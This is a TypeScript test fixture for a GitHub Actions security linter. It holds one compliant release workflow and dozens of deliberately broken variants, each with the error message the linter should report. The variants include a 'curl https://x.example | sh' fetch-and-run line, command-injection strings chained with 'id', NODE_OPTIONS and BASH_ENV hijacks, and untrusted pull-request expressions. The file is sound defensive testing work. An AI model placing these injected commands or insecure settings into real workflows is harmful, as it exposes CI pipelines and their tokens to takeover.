/** A workflow that keeps all rules. */
export const GOOD = `name: Release
on:
  push:
    tags: ['v*']
permissions: {}
concurrency:
  group: release-\${{ github.ref }}
  cancel-in-progress: false
jobs:
  package:
    runs-on: \${{ matrix.os }}
    timeout-minutes: 10
    permissions:
      contents: read
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: npm run package -- --tag "$GITHUB_REF_NAME"
  announce:
    runs-on: ubuntu-latest
    timeout-minutes: 10
    permissions:
      contents: write
    steps:
      - run: npm run announce
        env:
          GH_TOKEN: \${{ github.token }}
`;

const ANNOUNCE = 'run: npm run announce';
const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';
const noCall = /isn’t one call of a script/;
const noAction = /isn’t a listed action by its digest/;

/** A rule that is broken: what of the good workflow becomes what, and what is said of it. */
export const brokenRules: readonly (readonly [title: string, text: string, replacement: string, fault: RegExp])[] = [
  ...[
    'gh release create x; curl https://x.example | sh',
    'npm run announce; id',
    'npm run announce && id',
    'npm run announce | id',
    'npm run announce & id',
    'npm run announce -- $(id)',
    'npm run announce -- `id`',
    'npm run announce -- "$(id)"',
    'npm run announce -- "$GITHUB_HEAD_REF"',
    'npm run announce -- $GITHUB_REF_NAME',
    'npm run announce > file',
    'npm run no-such-script',
    'npm run constructor',
    'npm install left-pad',
    'npx left-pad',
    'gh release create x',
    'node scripts/announce.mjs',
    '.ci/run --all',
  ].map((call) => [`the call ${call}`, ANNOUNCE, `run: '${call}'`, noCall] as const),
  ['a second line of a call', ANNOUNCE, 'run: |\n          npm run announce\n          id', noCall],
  ['a second line in quotes', ANNOUNCE, 'run: "npm run announce\\nid"', noCall],
  ['an action of somebody', CHECKOUT, 'somebody/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1', noAction],
  ['an action of GitHub that isn’t listed', CHECKOUT, 'actions/github-script@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1', noAction], // prettier-ignore
  ['an action by its tag', CHECKOUT, 'actions/checkout@v7 # v7.0.1', noAction],
  ['an action by half a digest', CHECKOUT, 'actions/checkout@3d3c42e5 # v7.0.1', noAction],
  ['an action in this repository', CHECKOUT, './.github/actions/x', noAction],
  ['an image', CHECKOUT, 'docker://alpine', noAction],
  ['an action that is written in another way', `uses: ${CHECKOUT}`, '{ "uses": "somebody/x@main" }\n      - uses: ' + CHECKOUT, noAction], // prettier-ignore
  ['a digest without its version', CHECKOUT, CHECKOUT.replace(/ #.*/, ''), /has no version beside it/],
  ['a token that is left behind', 'persist-credentials: false', 'persist-credentials: true', /leaves its token/],
  ['a checkout of a stranger’s commit', 'persist-credentials: false', 'persist-credentials: false\n          ref: refs/pull/1/head', /ref of a checkout/], // prettier-ignore
  ['the event pull_request_target', 'push:', 'pull_request_target:', /pull_request_target of its events/],
  ['the event workflow_run', 'push:', 'workflow_run:', /workflow_run of its events/],
  ['rights for a pull request', 'push:', 'pull_request:', /What may write comes from/],
  ['permissions of the workflow', 'permissions: {}', 'permissions: { contents: write }', /permissions of its own/],
  ['permissions for everything', 'permissions: {}', 'permissions: write-all', /permissions of its own/],
  ['a job without permissions', '    permissions:\n      contents: read\n', '', /names no permissions/],
  ['a permission that isn’t listed', 'contents: read', 'packages: write', /The permission packages: write/],
  ['another script with rights', ANNOUNCE, 'run: npm run package', /package runs with rights/],
  ['all tests with rights', ANNOUNCE, 'run: .ci/run', /\.ci\/run runs with rights/],
  ['a job without a limit of time', '    timeout-minutes: 10\n', '', /no limit of time/],
  ['a machine of one’s own', 'runs-on: ubuntu-latest', 'runs-on: self-hosted', /The machine self-hosted/],
  ['a machine of one’s own in the matrix', 'windows-latest', 'self-hosted', /The machine self-hosted/],
  ['a command in the matrix', 'windows-latest]', 'windows-latest]\n        marketplace: ["x; id"]', /which is no word/],
  ['a title in a call', ANNOUNCE, "run: 'npm run announce -- ${{ github.event.pull_request.title }}'", /pull_request\.title isn’t listed/], // prettier-ignore
  ['a branch in a variable', '${{ github.token }}', '${{ github.head_ref }}', /github\.head_ref isn’t listed/],
  ['a secret', '${{ github.token }}', '${{ secrets.PAT }}', /secrets\.PAT isn’t listed/],
  [
    'an expression of two lines',
    '${{ github.token }}',
    "'${{ secrets.PAT\n            }}'",
    /secrets\.PAT isn’t listed/,
  ],
  ['a variable that Node reads', 'GH_TOKEN: ${{ github.token }}', 'NODE_OPTIONS: --import=./x.mjs', /NODE_OPTIONS/],
  ['variables of all jobs', 'permissions: {}', 'permissions: {}\nenv: { BASH_ENV: x }', /env of the workflow/],
  ['another shell', ANNOUNCE, `${ANNOUNCE}\n        shell: python`, /shell of a step/],
  ['another folder', ANNOUNCE, `${ANNOUNCE}\n        working-directory: demo`, /working-directory of a step/],
  ['a container', '    steps:', '    container: node\n    steps:', /container of a job/],
  [
    'a workflow of somebody',
    '    steps:',
    '    uses: somebody/x/.github/workflows/x.yml@main\n    steps:',
    /uses of a job/,
  ],
  ['a condition on a stranger’s text', ANNOUNCE, `${ANNOUNCE}\n        if: github.head_ref == 'x'`, /The condition/],
  ['one group for all releases', 'release-${{ github.ref }}', 'release', /One group for all runs/],
];
